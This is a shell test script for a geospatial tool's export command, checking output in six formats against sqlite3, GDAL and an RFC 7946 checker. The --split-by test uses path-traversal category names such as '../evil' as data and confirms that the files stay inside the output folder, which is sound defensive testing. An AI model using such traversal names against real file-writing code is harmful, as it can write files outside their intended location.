#!/usr/bin/env bash
# export: GeoJSON (RFC 7946), GeoJSONSeq (RFC 8142), GeoPackage with QGIS styles,
# FlatGeobuf, Shapefile, CSV; aggregations as choropleths with centroids;
# --split-by, --where, --precision, --bbox, --style, --append; failures.
#
# Every expected value comes from an independent source, never from footprint's
# own output:
#   * the store itself: sqlite3 (Python's sqlite3 module or the sqlite3 shell)
#     for attributes, the SpatiaLite shell's AsGeoJSON(geom, 15) for geometries;
#   * tests/tools/rfc7946_check.py, a strict RFC 7946 / RFC 8142 checker
#     (Python standard library; itself tested on tests/fixtures/export/checker/);
#   * GDAL reading the outputs back (ogrinfo, ogr2ogr) and GDAL's GeoPackage
#     validator (validate_gpkg.py of python3-gdal);
#   * tests/tools/compare_layer.py (store vs layer, attribute by attribute,
#     vertex by vertex) and tests/tools/fgb_header.py (FlatGeobuf header);
#   * the fixtures' design (tests/fixtures/export/README.md): orientations,
#     antimeridian crossings by linear interpolation, rounding, file names;
#   * doc/STYLE.md's definition of quantile classes (type 1) and ColorBrewer's
#     published YlOrRd / Reds palettes for the choropleth classes and colours.
. "$(dirname "$0")/lib.sh"
EXP="$FIX/export"
TOOLS="$ROOT/tests/tools"

check() { python3 "$TOOLS/rfc7946_check.py" "$@" 2>&1; }
cmp_layer() { python3 "$TOOLS/compare_layer.py" "$@" 2>&1; }
# Geometries of a store as "id|GeoJSON" lines (SpatiaLite, 15 decimals).
store_geoms() {
    spatialite_q "$1" "SELECT id, AsGeoJSON(geom, 15) FROM projects WHERE geom IS NOT NULL" > "$2"
}
# GDAL's reading of FILE [LAYER] as GeoJSON (GDAL's writer, not footprint's).
to_geojson() { rm -f "$2"; ogr2ogr -f GeoJSON "$2" "$1" ${3:+"$3"} >/dev/null 2>&1; }
ogr_count() { ogrinfo -ro -so "$1" "$2" 2>/dev/null | sed -n 's/^Feature Count: //p'; }
# ogrinfo -sql (SQLite dialect) on a file: one value per line.
ogr_sql() { ogrinfo -ro -q -dialect sqlite -sql "$2" "$1" 2>/dev/null | sed -n 's/^  [A-Za-z0-9_]* ([A-Za-z0-9]*) = //p'; }
# A Python check: the script on stdin, arguments after the message; it prints
# "ok" or what is wrong.
pycheck() { local msg="$1" o; shift; o=$(python3 - "$@" 2>&1); [ "$o" == ok ] || fail "$msg: $o"; }
assert_true() { python3 -c "import sys; sys.exit(0 if ($1) else 1)" 2>/dev/null || fail "$2"; }
temp_left() { find "${1:-.}" -name '.footprint-export-*' | head -5; }
TOL6=5.000001e-7   # rounding to 6 decimals moves a coordinate by at most 0.5e-6

PDB=points.sqlite
fp_init $PDB
"$FP" -q --db $PDB import "$EXP/points.csv"
store_geoms $PDB p.geoms
SDB=shapes.sqlite
fp_init $SDB
"$FP" -q --db $SDB import "$EXP/shapes.csv"
store_geoms $SDB s.geoms
NP=$(sqlite3 $PDB "SELECT count(*) FROM projects")
NS=$(sqlite3 $SDB "SELECT count(*) FROM projects")

# ==============================================================================
# 0. The checker itself.
# ==============================================================================
case_begin "rfc7946_check.py refuses every broken fixture for its reason and accepts the valid ones"
C="$EXP/checker"
while IFS='|' read -r f opts want; do
    out=$(check "$C/$f" $opts); rc=$?
    assert_eq 1 "$rc" "$f exit status ($out)"
    assert_contains "$out" "$want" "$f reason"
done <<'EOF'
bad_nan.geojson||token NaN
bad_overflow.geojson||not finite
bad_crs.geojson||forbidden member "crs"
bad_cw.geojson||exterior ring is clockwise
bad_hole_ccw.geojson||hole is counter-clockwise
bad_unclosed.geojson||not closed
bad_short_ring.geojson||at least 4 positions
bad_jump.geojson||not cut at the antimeridian
bad_precision.geojson|--precision 6|7 decimals, more than 6
bad_lat.geojson||latitude 91 outside
bad_4d.geojson||2 or 3 numbers
bad_bool.geojson||not a number
bad_trailing_zero.geojson|--no-trailing-zeros|trailing zero
bad_no_id.geojson|--require-id|no id
bad_id_type.geojson||neither a number nor a string
bad_bbox.geojson||does not contain position [1.5, 0.5]
bad_collection_bbox.geojson||collection bbox
bad_no_properties.geojson||no "properties"
bad_not_collection.geojson||not a FeatureCollection
bad_truncated.geojson||invalid JSON
bad_bom.geojson||BOM
bad_seq_no_rs.geojsons|--seq|feature 0: invalid JSON
bad_seq_start.geojsons|--seq|must start with RS
good.geojson|--require-bbox|feature 0: no bbox
EOF
assert_eq "ok 5 features" "$(check "$C/good.geojson" --precision 6 --require-id --no-trailing-zeros)" "good.geojson"
assert_eq "ok 2 features" "$(check "$C/good.geojsons" --seq --precision 6 --require-id)" "good.geojsons"
case_end

# ==============================================================================
# 1. Projects as GeoJSON.
# ==============================================================================
run --db $PDB export -o p.geojson
P_RC=$RC P_OUT=$OUT
run --db $SDB export -o s.geojson
S_RC=$RC S_OUT=$OUT

case_begin "projects -> GeoJSON: exit 0, passes the RFC 7946 checker (6 decimals, ids, no trailing zeros)"
assert_eq 0 "$P_RC" "points exit status ($P_OUT)"
assert_eq 0 "$S_RC" "shapes exit status ($S_OUT)"
assert_eq "ok $NP features" "$(check p.geojson --precision 6 --require-id --no-trailing-zeros)" "points checker"
assert_eq "ok $NS features" "$(check s.geojson --precision 6 --require-id --no-trailing-zeros)" "shapes checker"
pycheck "collection members" p.geojson <<'P'
import json, sys
d = json.load(open(sys.argv[1], encoding='utf-8'))
bad = [k for k in ('name', 'description', 'attribution') if not isinstance(d.get(k), str) or not d[k]]
print('missing or empty: %s' % bad if bad else 'ok')
P
case_end

# test_cli checks the --version string (a commit of the repository); an
# export names the same version, commit included, in its attribution and its
# layer description.
case_begin "projects -> GeoJSON: attribution and description name 'footprint RELEASE (COMMIT)' as --version prints it"
ver=$("$FP" --version | sed 's/^footprint //')
[[ "$ver" == *" ("?*")" ]] || fail "--version names no commit: [$ver]"
pycheck "version stamps" p.geojson "$ver" <<'P'
import json, sys
d = json.load(open(sys.argv[1], encoding='utf-8'))
want = 'footprint ' + sys.argv[2]
bad = [k for k in ('attribution', 'description') if want + ('.' if k == 'attribution' else ' on ') not in d.get(k, '')]
print('%s lack [%s]: %s' % (bad, want, [d.get(k) for k in bad]) if bad else 'ok')
P
case_end

case_begin "GeoJSON read back (Python json and ogrinfo): same ids, attributes and coordinates (±0.5e-6) as the store"
assert_eq "ok $NP features" "$(cmp_layer --store $PDB --geoms p.geoms --layer p.geojson --tol $TOL6)" "points, Python json"
assert_eq "ok $NS features" "$(cmp_layer --store $SDB --geoms s.geoms --layer s.geojson --tol $TOL6)" "shapes, Python json"
assert_eq "$NP" "$(ogr_count p.geojson projects)" "ogrinfo feature count (points)"
assert_eq "$NS" "$(ogr_count s.geojson projects)" "ogrinfo feature count (shapes)"
to_geojson p.geojson p_gdal.json
assert_eq "ok $NP features" "$(cmp_layer --store $PDB --geoms p.geoms --layer p_gdal.json --tol $TOL6)" "points as GDAL reads them"
to_geojson s.geojson s_gdal.json
assert_eq "ok $NS features" "$(cmp_layer --store $SDB --geoms s.geoms --layer s_gdal.json --tol $TOL6)" "shapes as GDAL reads them"
case_end

case_begin "numeric top-level id = the project id (sqlite3: id -> source_key)"
pycheck "ids" p.geojson $PDB <<'P'
import json, sqlite3, sys
d = json.load(open(sys.argv[1], encoding='utf-8'))
ref = dict(sqlite3.connect(sys.argv[2]).execute("SELECT id, source_key FROM projects"))
got = {}
for f in d['features']:
    if type(f.get('id')) is not int:
        print('id %r is not an integer' % f.get('id')); sys.exit()
    got[f['id']] = f['properties']['source_key']
print('ok' if got == ref else 'export %s, store %s' % (sorted(got.items()), sorted(ref.items())))
P
case_end

case_begin "quotes, backslashes, control characters and non-ASCII round-trip exactly (store and fixture)"
pycheck "strings" p.geojson $PDB <<'P'
import json, sqlite3, sys
raw = open(sys.argv[1], 'rb').read()
ctl = sorted({b for b in raw if b < 0x20 and b != 0x0a})
if ctl:
    print('raw control bytes in the file: %s' % ctl); sys.exit()
d = json.loads(raw.decode('utf-8'))          # strict: raw control characters inside strings refused
by = {f['properties']['source_key']: f['properties'] for f in d['features']}
db = sqlite3.connect(sys.argv[2])
for key, company, name, place in db.execute("SELECT source_key, company, name, place FROM projects"):
    p = by[key]
    if (p['company'], p['name'], p['place']) != (company, name, place):
        print('%s: export %r, store %r' % (key, (p['company'], p['name'], p['place']), (company, name, place))); sys.exit()
# by hand from tests/fixtures/export/points.csv (CSV quoting undone)
want = {'A1': 'Zürich "HQ"\\ tab\tx', 'A2': "O'Brien's \"city\"", 'A4': 'Slash\x01bell\x1fus',
        'A5': 'line1\nline2', 'A8': 'Ünïcödé ✓ 日本 😀'}
for k, v in want.items():
    if by[k]['name'] != v:
        print('%s name: export %r, fixture %r' % (k, by[k]['name'], v)); sys.exit()
if by['A8']['company'] != 'Δelta' or by['A2']['company'] != "O'Brien":
    print('companies %r %r' % (by['A8']['company'], by['A2']['company'])); sys.exit()
print('ok')
P
case_end

case_begin "amounts nan and inf: the store keeps NULL (+ extra.amount_raw); the JSON has null, never NaN/Infinity"
DB=$PDB
assert_eq "A2|null|nan
A3|null|inf" "$(sql "SELECT source_key, typeof(amount), json_extract(extra, '\$.amount_raw') FROM projects WHERE source_key IN ('A2','A3') ORDER BY 1")" "store"
pycheck "JSON amounts" p.geojson <<'P'
import json, sys
def bad(c): raise ValueError(c)
d = json.load(open(sys.argv[1], encoding='utf-8'), parse_constant=bad)
a = {f['properties']['source_key']: f['properties'].get('amount', 'absent') for f in d['features']}
print('ok' if a['A2'] is None and a['A3'] is None and a['A1'] == 12.5 else 'amounts %r' % a)
P
# An infinite REAL can be stored (SQLite reads 1e999 as Inf): it must come out as null.
cp $PDB inf.sqlite
sqlite3 inf.sqlite "UPDATE projects SET amount = 1e999 WHERE source_key = 'A1'; UPDATE projects SET amount = -1e999 WHERE source_key = 'A4'"
assert_eq "Inf|-Inf" "$(sqlite3 inf.sqlite "SELECT group_concat(amount, '|') FROM (SELECT amount FROM projects WHERE source_key IN ('A1','A4') ORDER BY source_key)")" "infinities stored"
run --db inf.sqlite export -o inf.geojson
assert_eq 0 "$RC" "exit status ($OUT)"
assert_eq "ok $NP features" "$(check inf.geojson --precision 6 --require-id)" "checker (no Infinity token)"
assert_eq "None None" "$(python3 -c "
import json; d = json.load(open('inf.geojson'))
a = {f['properties']['source_key']: f['properties'].get('amount', 'absent') for f in d['features']}
print(a['A1'], a['A4'])")" "infinite amounts -> null"
case_end

case_begin "a clockwise polygon comes out counter-clockwise; a counter-clockwise hole comes out clockwise"
pycheck "orientation" s.geojson s.geoms <<'P'
import json, sys
def area(r): return sum(r[i][0] * r[i + 1][1] - r[i + 1][0] * r[i][1] for i in range(len(r) - 1)) / 2
store = {int(l.split('|', 1)[0]): json.loads(l.split('|', 1)[1]) for l in open(sys.argv[2]) if l.strip()}
d = json.load(open(sys.argv[1]))
by = {f['properties']['source_key']: f for f in d['features']}
s1, s2 = by['S1'], by['S2']
# the fixture really is clockwise (exterior) and counter-clockwise (hole) in the store
if not (area(store[s1['id']]['coordinates'][0]) < 0 and area(store[s2['id']]['coordinates'][0]) < 0
        and area(store[s2['id']]['coordinates'][1]) > 0):
    print('fixture orientation in the store is not as designed'); sys.exit()
g1, g2 = s1['geometry'], s2['geometry']
ok = (g1['type'] == 'Polygon' and area(g1['coordinates'][0]) > 0
      and {tuple(p) for p in g1['coordinates'][0]} == {(0, 0), (0, 1), (1, 1), (1, 0)}
      and g2['type'] == 'Polygon' and len(g2['coordinates']) == 2
      and area(g2['coordinates'][0]) > 0 and area(g2['coordinates'][1]) < 0
      and {tuple(p) for p in g2['coordinates'][1]} == {(11, 11), (12, 11), (12, 12), (11, 12)}
      and abs(area(g1['coordinates'][0])) == 1 and area(g2['coordinates'][0]) == 16 and area(g2['coordinates'][1]) == -1)
print('ok' if ok else 'S1 %s / S2 %s' % (json.dumps(g1), json.dumps(g2)))
P
case_end

case_begin "antimeridian: lines are cut at ±180 at the interpolated latitude, a polygon becomes two"
pycheck "cuts" s.geojson s.geoms <<'P'
import json, sys
store = {int(l.split('|', 1)[0]): json.loads(l.split('|', 1)[1]) for l in open(sys.argv[2]) if l.strip()}
d = json.load(open(sys.argv[1]))
by = {f['properties']['source_key']: f for f in d['features']}
def crossing(a, b):
    # latitude where a -> b (taking the short way, over the antimeridian) meets it,
    # by linear interpolation in lon/lat; the side of 180 each end is on
    (x0, y0), (x1, y1) = a, b
    x1u = x1 + 360 if x0 > 0 else x1 - 360          # unwrapped end
    edge = 180 if x0 > 0 else -180
    return y0 + (y1 - y0) * (edge - x0) / (x1u - x0), edge
problems = []
for key in ('S3', 'S9'):
    f = by[key]
    a, b = store[f['id']]['coordinates']
    lat, edge = crossing(a, b)
    want = {((a[0], a[1]), (edge, lat)), ((-edge, lat), (b[0], b[1]))}
    g = f['geometry']
    got = {tuple(tuple(p) for p in part) for part in g['coordinates']} if g['type'] == 'MultiLineString' else g
    if g['type'] != 'MultiLineString' or got != want:
        problems.append('%s: want MultiLineString %s, got %s' % (key, sorted(want), json.dumps(g)))
# by hand: S3 crosses at 11, S9 at -21
if crossing((170, 10), (-170, 12))[0] != 11 or crossing((-170, -20), (170, -22))[0] != -21:
    problems.append('interpolation by hand')
g = by['S4']['geometry']
want = [{(175, -10), (180, -10), (180, -5), (175, -5)}, {(-180, -10), (-175, -10), (-175, -5), (-180, -5)}]
if g['type'] != 'MultiPolygon' or sorted(({tuple(p) for p in poly[0]} for poly in g['coordinates']), key=min) != sorted(want, key=min) \
        or any(len(poly) != 1 for poly in g['coordinates']):
    problems.append('S4: want MultiPolygon %s, got %s' % (want, json.dumps(g)))
print('; '.join(problems) if problems else 'ok')
P
case_end

case_begin "--precision 3 writes at most (and really) 3 decimals, rounded; the default is 6"
run --db $SDB export --precision 3 -o s3.geojson
assert_eq 0 "$RC" "exit status ($OUT)"
assert_eq "ok $NS features" "$(check s3.geojson --precision 3 --require-id --no-trailing-zeros)" "checker --precision 3"
assert_contains "$(check s3.geojson --precision 2)" "3 decimals, more than 2" "some coordinate has 3 decimals"
assert_eq "ok $NS features" "$(cmp_layer --store $SDB --geoms s.geoms --layer s3.geojson --tol 5.000001e-4)" "within 0.5e-3 of the store"
assert_contains "$(check s.geojson --precision 5)" "6 decimals, more than 5" "default: some coordinate has 6 decimals"
pycheck "rounded values" s3.geojson s.geojson s.geoms <<'P'
import json, sys
store = {int(l.split('|', 1)[0]): json.loads(l.split('|', 1)[1]) for l in open(sys.argv[3]) if l.strip()}
p3 = {f['properties']['source_key']: f for f in json.load(open(sys.argv[1]))['features']}
p6 = {f['properties']['source_key']: f for f in json.load(open(sys.argv[2]))['features']}
x, y = store[p3['S5']['id']]['coordinates']                     # 12.123456789 -45.987654321
w3, w6 = [round(x, 3), round(y, 3)], [round(x, 6), round(y, 6)]
g3, g6 = p3['S5']['geometry']['coordinates'], p6['S5']['geometry']['coordinates']
ok = g3 == w3 == [12.123, -45.988] and g6 == w6 == [12.123457, -45.987654] and p3['S6']['geometry']['coordinates'] == [1.5, 2.25]
print('ok' if ok else 'precision 3 %s (want %s), default %s (want %s)' % (g3, w3, g6, w6))
P
run --db $SDB export --precision 16 -o s16.geojson
assert_eq 2 "$RC" "--precision 16 is a usage error"
case_end

case_begin "--bbox: feature and collection bboxes are the extents of their coordinates (computed in Python)"
run --db $SDB export --bbox -o sb.geojson
assert_eq 0 "$RC" "exit status ($OUT)"
assert_eq "ok $NS features" "$(check sb.geojson --precision 6 --require-id --require-bbox)" "checker (bboxes contain their coordinates)"
pycheck "bboxes" sb.geojson <<'P'
import json, sys
d = json.load(open(sys.argv[1]))
def pos(c):
    if isinstance(c[0], (int, float)): yield c
    else:
        for x in c: yield from pos(x)
def ext(ps):
    return [min(p[0] for p in ps), min(p[1] for p in ps), max(p[0] for p in ps), max(p[1] for p in ps)]
allp, bad = [], []
for f in d['features']:
    ps = list(pos(f['geometry']['coordinates'])); allp += ps
    e = ext(ps)
    ok = f['bbox'] == e
    if not ok and e[0] == -180 and e[2] == 180:     # cut at the antimeridian: RFC 7946 5.2 form allowed too
        east = [p[0] for p in ps if p[0] >= 0]; west = [p[0] for p in ps if p[0] < 0]
        ok = f['bbox'] == [min(east), e[1], max(west), e[3]]
    if not ok: bad.append('%s: bbox %s, coordinates span %s' % (f['properties']['source_key'], f['bbox'], e))
if d.get('bbox') != ext(allp): bad.append('collection bbox %s, coordinates span %s' % (d.get('bbox'), ext(allp)))
print('; '.join(bad) if bad else 'ok')
P
case_end

case_begin "--bbox of a line cut at the antimeridian: RFC 7946 5.2's west > east form ([178, -15, -178, -14]), not the whole world"
fp_init am.sqlite
# E1 runs round the equator and M1 has a part from -10 to 10 beside its cut parts:
# segments across the prime meridian, so the whole-world form stays (by hand).
printf '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"id":"C2"},"geometry":{"type":"LineString","coordinates":[[178,-15],[-178,-14]]}},{"type":"Feature","properties":{"id":"P1"},"geometry":{"type":"Point","coordinates":[10,10]}},{"type":"Feature","properties":{"id":"E1"},"geometry":{"type":"LineString","coordinates":[[-180,0],[0,0.5],[180,1]]}},{"type":"Feature","properties":{"id":"M1"},"geometry":{"type":"MultiLineString","coordinates":[[[170,1],[180,1]],[[-180,2],[-170,2]],[[-10,1.5],[10,1.5]]]}}]}\n' > am.geojson
"$FP" -q --db am.sqlite import am.geojson || fail "import"
run --db am.sqlite export --bbox -o am_out.geojson
assert_eq 0 "$RC" "exit status ($OUT)"
# By hand: the line's ends are 178,-15 and -178,-14; the short way across 180.
assert_eq "C2 MultiLineString [178, -15, -178, -14]
P1 Point [10, 10, 10, 10]
E1 LineString [-180, 0, 180, 1]
M1 MultiLineString [-180, 1, 180, 2]" "$(python3 -c "
import json
for f in json.load(open('am_out.geojson'))['features']: print(f['properties']['source_key'], f['geometry']['type'], f['bbox'])")" "feature bboxes"
assert_eq "ok 4 features" "$(check am_out.geojson --require-bbox)" "the RFC 7946 checker takes it"
case_end

# ==============================================================================
# 2. GeoJSONSeq, GeoPackage, FlatGeobuf, Shapefile, CSV.
# ==============================================================================
case_begin "GeoJSONSeq (.geojsons): every record is RS + JSON + LF, one per project, valid features"
run --db $SDB export -o s.geojsons
assert_eq 0 "$RC" "exit status ($OUT)"
pycheck "records" s.geojsons "$NS" <<'P'
import json, sys
raw = open(sys.argv[1], 'rb').read()
if not raw.startswith(b'\x1e') or not raw.endswith(b'\n'):
    print('file must start with RS and end with LF'); sys.exit()
recs = raw.split(b'\x1e')[1:]
for i, r in enumerate(recs):
    if not r.endswith(b'\n') or b'\n' in r[:-1]:
        print('record %d is not one line ended by LF' % i); sys.exit()
    f = json.loads(r.decode('utf-8'))
    if f.get('type') != 'Feature': print('record %d is not a Feature' % i); sys.exit()
print('ok' if len(recs) == int(sys.argv[2]) else '%d records' % len(recs))
P
assert_eq "ok $NS features" "$(check s.geojsons --seq --precision 6 --require-id --no-trailing-zeros)" "checker --seq"
assert_eq "$NS" "$(ogrinfo -ro -so s.geojsons s 2>/dev/null | sed -n 's/^Feature Count: //p')" "GDAL's GeoJSONSeq driver count"
case_end

run --db $PDB export -o p.gpkg
PG_RC=$RC PG_OUT=$OUT
run --db $SDB export -o s.gpkg
SG_RC=$RC SG_OUT=$OUT
VALIDATE=$(find /usr/lib/python3/dist-packages/osgeo_utils/samples /usr/share/doc/python3-gdal -name validate_gpkg.py 2>/dev/null | head -1)
validate_gpkg() {  # file: GDAL's validator when installed (python3-gdal), plus our sqlite3 checks
    if [ -n "$VALIDATE" ]; then
        local o; o=$(/usr/bin/python3 "$VALIDATE" "$1" 2>&1) || fail "validate_gpkg.py $1: $(tail -3 <<<"$o")"
    fi
    assert_eq "ok" "$(sqlite3 "$1" "PRAGMA integrity_check")" "$1 integrity"
    assert_eq "GPKG" "$(sqlite3 "$1" "PRAGMA application_id" | awk '{printf "%c%c%c%c", int($1/16777216)%256, int($1/65536)%256, int($1/256)%256, $1%256}')" "$1 application_id"
    assert_eq "0" "$(sqlite3 "$1" "SELECT count(*) FROM gpkg_contents c LEFT JOIN gpkg_geometry_columns g ON g.table_name = c.table_name WHERE c.data_type = 'features' AND (g.table_name IS NULL OR c.srs_id <> 4326 OR g.srs_id <> 4326)")" "$1 feature tables without a WGS 84 geometry column"
}

case_begin "GeoPackage: layers, geometry types, counts, GDAL's validator, spatial index"
assert_eq 0 "$PG_RC" "points exit status ($PG_OUT)"
assert_eq 0 "$SG_RC" "shapes exit status ($SG_OUT)"
validate_gpkg p.gpkg
validate_gpkg s.gpkg
assert_eq "1: projects (Point)" "$(ogrinfo -ro -q p.gpkg 2>/dev/null | grep -v layer_styles)" "points: ogrinfo layers"
assert_eq "$NP" "$(ogr_count p.gpkg projects)" "points count"
assert_eq "$NS" "$(ogr_count s.gpkg projects)" "shapes count"
assert_eq "projects|features|POINT|4326" "$(sqlite3 p.gpkg "SELECT c.table_name, c.data_type, g.geometry_type_name, g.srs_id FROM gpkg_contents c JOIN gpkg_geometry_columns g USING (table_name)")" "gpkg_contents / gpkg_geometry_columns"
assert_eq "projects|GEOMETRY" "$(sqlite3 s.gpkg "SELECT table_name, geometry_type_name FROM gpkg_geometry_columns")" "mixed layer is GEOMETRY"
assert_eq "1" "$(sqlite3 p.gpkg "SELECT count(*) FROM gpkg_extensions WHERE table_name='projects' AND extension_name='gpkg_rtree_index'")" "R*Tree spatial index registered"
assert_eq "$NP" "$(sqlite3 p.gpkg "SELECT count(*) FROM rtree_projects_geom")" "R*Tree entries"
# Whose data the layer holds, where QGIS shows it (the layer's properties),
# as GDAL reads gpkg_contents.description.
about=$(ogrinfo -ro -so p.gpkg projects 2>/dev/null | sed -n 's/^  DESCRIPTION=//p')
for w in "exported by footprint" "Natural Earth" "world-countries" "GeoNames (geonames.org, CC BY 4.0)"; do
    assert_contains "$about" "$w" "gpkg_contents.description: $w"
done
case_end

case_begin "GeoPackage read back: same ids, attributes and coordinates as the store"
to_geojson p.gpkg pg.json projects
assert_eq "ok $NP features" "$(cmp_layer --store $PDB --geoms p.geoms --layer pg.json --id prop)" "points"
to_geojson s.gpkg sg.json projects
assert_eq "ok $NS features" "$(cmp_layer --store $SDB --geoms s.geoms --layer sg.json --id prop)" "shapes"
case_end

# QML of a layer_styles row: renderer type, attribute, classes (graduated
# ranges or rules) and categories.
qml_of() {  # gpkg table -> "renderer attr nclasses ncategories" or a parse error
    python3 - "$1" "$2" <<'P'
import sqlite3, sys, xml.dom.minidom as m
rows = sqlite3.connect(sys.argv[1]).execute("SELECT styleQML FROM layer_styles WHERE f_table_name = ?", (sys.argv[2],)).fetchall()
if len(rows) != 1: print('%d layer_styles rows' % len(rows)); sys.exit()
d = m.parseString(rows[0][0])
r = d.getElementsByTagName('renderer-v2')
print(r[0].getAttribute('type') if r else '-', r[0].getAttribute('attr') if r else '-',
      len(d.getElementsByTagName('range')) + len(d.getElementsByTagName('rule')), len(d.getElementsByTagName('category')))
P
}

case_begin "GeoPackage QGIS styles: a layer_styles row per layer whose QML parses (categories of the points)"
assert_eq "projects" "$(sqlite3 p.gpkg "SELECT group_concat(f_table_name) FROM layer_styles")" "points: styled layers"
ncat=$(sqlite3 $PDB "SELECT count(DISTINCT category) FROM projects")
q=$(qml_of p.gpkg projects)
assert_eq "categorizedSymbol category" "$(cut -d' ' -f1,2 <<<"$q")" "points renderer ($q)"
pycheck "every stored category in the QML" p.gpkg $PDB <<'P'
import sqlite3, sys, xml.dom.minidom as m
q = sqlite3.connect(sys.argv[1]).execute("SELECT styleQML FROM layer_styles WHERE f_table_name='projects'").fetchone()[0]
vals = {c.getAttribute('value') for c in m.parseString(q).getElementsByTagName('category')}
want = {r[0] for r in sqlite3.connect(sys.argv[2]).execute("SELECT DISTINCT category FROM projects WHERE category IS NOT NULL")}
print('ok' if want <= vals else 'missing %s' % sorted(want - vals))
P
# The shapes layer (points, lines, polygons) is styled too: its GeoJSON gets a .qml.
assert_eq "yes" "$([ -s s.qml ] && echo yes || echo no)" "shapes GeoJSON has a .qml"
assert_eq "projects" "$(sqlite3 s.gpkg "SELECT group_concat(f_table_name) FROM layer_styles")" "shapes: styled layers in the GeoPackage"
case_end

case_begin "FlatGeobuf: count and values read back; the header has a spatial index (fgb_header.py)"
run --db $SDB export -o s.fgb
assert_eq 0 "$RC" "exit status ($OUT)"
assert_eq "$NS" "$(ogr_count s.fgb projects)" "ogrinfo count"
hdr=$(python3 "$TOOLS/fgb_header.py" s.fgb)
assert_eq "features_count=$NS" "${hdr% *}" "header features_count"
assert_true "${hdr##*=} > 0" "header index_node_size > 0 ($hdr)"
to_geojson s.fgb sf.json
fields=$(ogrinfo -ro -so s.fgb projects 2>/dev/null | sed -n 's/^\([A-Za-z0-9_]*\): .*/\1/p' | paste -sd' ')
for c in id dataset source_key company category name place country country_code year status amount source geocode_method geocode_precision; do
    grep -qw "$c" <<<"$fields" || fail "field $c missing from the FlatGeobuf schema ($fields)"
done
# FlatGeobuf stores no null properties: GDAL reads them back as unset, which its GeoJSON omits
assert_eq "ok $NS features" "$(cmp_layer --store $SDB --geoms s.geoms --layer sf.json --id prop --absent-is-null)" "values"
case_end

case_begin "Shapefile: values read back; NAME.fields.csv maps every full name to the .dbf name ogrinfo shows"
run --db $PDB export -o p.shp
assert_eq 0 "$RC" "exit status ($OUT)"
assert_eq "yes" "$([ -s p.fields.csv ] && echo yes || echo no)" "p.fields.csv written"
dbf=$(ogrinfo -ro -so p.shp p 2>/dev/null | sed -n 's/^\([A-Za-z0-9_]*\): [A-Za-z0-9]* (.*$/\1/p' | sort | paste -sd' ')
pycheck "field map" p.fields.csv "$dbf" <<'P'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8')))
body = rows[1:] if rows and rows[0] == ['field', 'shapefile_field'] else rows
full = {r[0]: r[1] for r in body}
dbf = set(sys.argv[2].split())
need = ['geocode_precision', 'country_code', 'contract_value_eur', 'partner_university', 'partner_university_city', 'name']
problems = [k for k in need if k not in full]
problems += ['%s -> %s not in the .dbf' % (k, v) for k, v in full.items() if v not in dbf]
problems += ['%s is longer than 10' % v for v in full.values() if len(v.encode()) > 10]
if set(full.values()) != dbf: problems.append('map %s vs dbf %s' % (sorted(full.values()), sorted(dbf)))
if len(set(full.values())) != len(full): problems.append('two names map to one field')
print('; '.join(problems) if problems else 'ok')
P
to_geojson p.shp ps.json
assert_eq "ok $NP features" "$(cmp_layer --store $PDB --geoms p.geoms --layer ps.json --id prop --fields-map p.fields.csv)" "values through the map"
assert_eq "yes" "$([ -s p.qml ] && echo yes || echo no)" "p.qml written"
case_end

case_begin "Shapefile of points, lines and polygons: refused with a message, no partial file"
run --db $SDB export -o mixed.shp
assert_eq 1 "$RC" "exit status ($OUT)"
assert_contains "$OUT" "mixed.shp" "message names the file"
assert_eq "" "$(ls mixed.* 2>/dev/null; temp_left)" "files left"
case_end

case_begin "CSV: X/Y columns for points, WKT otherwise; values read back"
run --db $PDB export -o p.csv
assert_eq 0 "$RC" "exit status ($OUT)"
assert_eq "X,Y" "$(head -1 p.csv | cut -d, -f1,2)" "points header"
assert_eq "ok $NP features" "$(cmp_layer --store $PDB --geoms p.geoms --layer p.csv --csv --loose)" "points values"
run --db $SDB export -o s.csv
assert_eq 0 "$RC" "exit status ($OUT)"
assert_eq "WKT" "$(head -1 s.csv | cut -d, -f1)" "shapes header"
assert_eq "ok $NS features" "$(cmp_layer --store $SDB --geoms s.geoms --layer s.csv --csv --loose)" "shapes values"
assert_eq "$NP" "$(ogrinfo -ro -so -oo X_POSSIBLE_NAMES=X -oo Y_POSSIBLE_NAMES=Y p.csv p 2>/dev/null | sed -n 's/^Feature Count: //p')" "GDAL reads the points"
case_end

# ==============================================================================
# 3. --split-by, --where.
# ==============================================================================
case_begin "--split-by category: one file per value, together all projects; ../evil, a/b, .. stay inside the folder"
mkdir -p deep/er
touch marker; sleep 1
run --db $PDB export --split-by category --format geojson -o deep/er/split
assert_eq 0 "$RC" "exit status ($OUT)"
DB=$PDB
nval=$(sql "SELECT count(*) FROM (SELECT DISTINCT category FROM projects)")   # NULL is a value too
assert_eq "$nval" "$(ls deep/er/split/*.geojson 2>/dev/null | wc -l)" "files (sqlite3: $nval distinct values)"
assert_eq "" "$(find . -newer marker ! -type d ! -path './deep/er/split/*' ! -name '*.sqlite*')" "files created outside the folder"
assert_eq "./deep/er ./deep/er/split" "$(find . -newer marker -type d | sort | paste -sd' ')" "folders created or changed"
assert_eq "" "$(ls -A deep/er/split | grep -v '^[A-Za-z0-9._-]*$')" "names outside [A-Za-z0-9._-]"
assert_eq "" "$(ls -A deep/er/split | grep -x '\.\.\?\(\.geojson\)\?')" "names . or .."
pycheck "union" $PDB deep/er/split <<'P'
import glob, json, sqlite3, sys
ref = {i: c for i, c in sqlite3.connect(sys.argv[1]).execute("SELECT id, category FROM projects")}
seen = {}
for f in sorted(glob.glob(sys.argv[2] + '/*.geojson')):
    cats = set()
    for ft in json.load(open(f))['features']:
        if ft['id'] in seen: print('project %d in %s and %s' % (ft['id'], seen[ft['id']], f)); sys.exit()
        seen[ft['id']] = f; cats.add(ft['properties']['category'])
    if len(cats) != 1: print('%s mixes categories %s' % (f, cats)); sys.exit()
print('ok' if set(seen) == set(ref) else 'ids %s vs store %s' % (sorted(seen), sorted(ref)))
P
for f in deep/er/split/*.geojson; do
    r=$(check "$f" --precision 6 --require-id); [ "${r%% *}" == ok ] || fail "$f: $r"
done
case_end

case_begin "--split-by category into a GeoPackage: one table per value, counts match the store"
run --db $PDB export --split-by category -o split.gpkg
assert_eq 0 "$RC" "exit status ($OUT)"
validate_gpkg split.gpkg
DB=$PDB
assert_eq "$(sql "SELECT count(*) FROM (SELECT DISTINCT category FROM projects)")" "$(sqlite3 split.gpkg "SELECT count(*) FROM gpkg_contents WHERE data_type='features'")" "tables"
